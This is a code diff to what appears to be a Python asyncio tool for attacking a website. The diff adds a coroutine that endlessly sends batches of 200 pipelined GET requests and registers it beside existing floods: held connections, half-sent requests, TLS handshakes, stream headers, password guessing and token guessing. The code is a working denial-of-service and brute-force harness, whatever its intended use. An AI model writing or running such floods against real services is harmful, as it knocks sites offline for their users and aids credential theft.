@@ -31,6 +31,8 @@ LONG = "\ufdfa"
 """A character of three bytes, of which nameprep makes eighteen others."""
 ROUND_SECONDS = 5
 """How often those who hold a connection to the site use it, all at the same moment."""
+PIPELINED = 200
+"""So many requests are sent at once by those who flood the site."""
 
 Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]
 
@@ -139,6 +141,19 @@ async def send_half(target: Target, _number: int) -> None:
         await _until_closed(reader)
 
 
+async def pipeline(target: Target, _number: int) -> None:
+    """Ask for pages without end, hundreds of them before the first answer."""
+    async with _connection(target.web) as (reader, writer):
+        while True:
+            writer.write(request("GET", "/") * PIPELINED)
+            answers = 0
+            while answers < PIPELINED:
+                chunk = await reader.read(65536)
+                if not chunk:
+                    return
+                answers += chunk.count(b"HTTP/1.1 ")
+
+
 async def guess_tokens(target: Target, number: int) -> None:
     """Try tokens that do not exist, on pages, or in a stream each fifth time."""
     if number % 5 == 0:
@@ -236,6 +251,7 @@ OPEN = "policy: {registration_invite_only: false}"
 DOORS = {
     "web-connections": Door(hold_connection, rate=200, at_once=700),
     "half-requests": Door(send_half, rate=300, at_once=2300),
+    "requests": Door(pipeline, rate=18, at_once=100),
     "tls-handshakes": Door(shake_hands, rate=150, at_once=150),
     "stream-headers": Door(open_stream, rate=18, at_once=100),
     "logins": Door(guess_passwords, rate=18, at_once=100),
